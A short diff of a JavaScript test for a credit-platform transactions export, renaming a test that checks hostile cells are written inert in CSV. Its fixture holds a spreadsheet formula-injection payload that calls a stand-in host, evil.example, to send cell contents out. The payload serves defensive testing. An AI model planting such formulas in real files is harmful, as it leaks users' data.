@@ -201,7 +201,7 @@ describe('credit-platform transactions export', () => {
     }
   });
 
-  it('writes hostile cells inert in CSV, and NDJSON byte for byte as the service sent them', async () => {
+  it('writes hostile cells inert in CSV, and NDJSON with every value as it came', async () => {
     server = await startFakeServer({ transactions: 0 });
     const hostile = {
       type: '=HYPERLINK("http://evil.example/?"&A1,"x")',
